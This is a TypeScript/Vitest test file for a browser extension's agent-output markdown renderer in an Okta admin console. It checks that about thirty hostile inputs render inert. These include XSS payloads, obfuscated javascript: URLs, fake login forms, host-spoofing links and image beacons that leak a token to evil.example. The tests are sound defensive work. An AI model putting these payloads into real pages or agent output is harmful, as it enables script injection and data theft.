import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { AgentMarkdown } from '../../../extension/chat/said/agent-markdown.tsx';
import { ConsoleOrigin } from '../../../extension/page/console-origin.ts';

const acme = 'https://acme-admin.okta.com';

function render(text: string, streaming = false): HTMLElement {
  const html = renderToStaticMarkup(
    <ConsoleOrigin value={acme}>
      <AgentMarkdown text={text} streaming={streaming} />
    </ConsoleOrigin>,
  );
  return new DOMParser().parseFromString(html, 'text/html').body;
}

/** Elements that markdown may become; everything else would be the agent's own HTML. */
const HARMLESS = new Set(
  'DIV P SPAN STRONG EM DEL CODE PRE UL OL LI H1 H2 H3 H4 H5 H6 BLOCKQUOTE HR BR SECTION TABLE THEAD TBODY TR TH TD INPUT A SUP FOOTER HEADER MARK WBR'.split(
    ' ',
  ),
);

describe('hostile text', () => {
  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><a href="javascript:alert(1)">x</a></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<div style="position:fixed;inset:0">overlay</div>',
    '<style>body{background:url(https://evil.example)}</style>',
    '<a href="https://evil.example" onclick="alert(1)">x</a>',
    '<object data="https://evil.example"></object><embed src=x><base href="https://evil.example">',
    '![secret](https://evil.example/?q=token)',
    '![ref][r]\n\n[r]: https://evil.example/p.png',
    '[![img](https://evil.example/p.png)](https://evil.example)',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\nscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](//evil.example)',
    '[x](https://acme-admin.okta.com.evil.example/admin)',
    '[x](https://acme-admin.okta.com@evil.example/admin)',
    '[x](http://acme-admin.okta.com/admin)',
    '[x](chrome-extension://menlnfbaabfljjfbcfgngmhjldecmoem/popup.html)',
    '<https://evil.example>',
    'https://evil.example/auto',
    '[x][1]\n\n[1]: https://evil.example "title"',
    'note[^1]\n\n[^1]: [x](https://evil.example)',
    '| a |\n| --- |\n| <img src=x onerror=alert(1)> [x](https://evil.example) |',
    '# <img src=x onerror=alert(1)> heading',
    '```html onload="x"\n<script>alert(1)</script>\n```',
    '<!-- --><script>alert(1)</script>',
    '<details open ontoggle=alert(1)>x</details>',
    '\u202Egpj.exe [x](https://evil.example/\u202E)',
  ])('is inert: %s', (text) => {
    for (const streaming of [false, true]) {
      const body = render(text, streaming);
      for (const element of body.querySelectorAll('*')) {
        expect(HARMLESS).toContain(element.tagName);
        for (const { name } of element.attributes) expect(name).not.toMatch(/^on|^style$|^src|^action$|^srcset$/);
        if (element.tagName === 'INPUT') expect(element.getAttribute('type')).toBe('checkbox');
      }
      for (const link of body.querySelectorAll('a'))
        expect(link.getAttribute('href')).toMatch(/^https:\/\/acme-admin\.okta\.com\/|^#/);
    }
  });
});

describe('markdown', () => {
  test("links to the person's own admin console", () => {
    const link = render(`[Ben](${acme}/admin/user/profile/view/00u1)`).querySelector('a');
    expect(link?.getAttribute('href')).toBe(`${acme}/admin/user/profile/view/00u1`);
    expect(link?.getAttribute('rel')).toBe('noreferrer');
  });

  test('shows where any other link would have led', () => {
    expect(render('[click](https://evil.example/a)').textContent).toBe('click (evil.example)');
  });

  test('leaves of an image its words', () => {
    expect(render('The group ![Sales](https://evil.example/p.png) is empty').textContent).toBe(
      'The group Sales is empty',
    );
  });

  test.each(['ana.ruiz@acme.example', 'https://evil.example/a', 'www.evil.example'])(
    'leaves a bare %s as it is',
    (text) => {
      expect(render(`Mail ${text} now`).textContent).toBe(`Mail ${text} now`);
      expect(render(`| a |\n| --- |\n| ${text} |`).querySelector('td')?.textContent).toBe(text);
    },
  );

  test('lets a long login break behind its @, and only there', () => {
    const cell = render('| a |\n| --- |\n| ana.ruiz@acme.example |').querySelector('td');
    expect(cell?.innerHTML).toBe('ana.ruiz@<wbr>acme.example');
  });

  test('puts a table into a box of its own', () => {
    const body = render('| Group | Type |\n| --- | --- |\n| Everyone | BUILT_IN |');
    expect(body.querySelector('section[aria-label="Table"] table')?.textContent).toContain('BUILT_IN');
  });

  test('holds half a table back while it streams', () => {
    expect(render('Groups:\n\n| Group | Ty', true).textContent).not.toContain('|');
  });
});
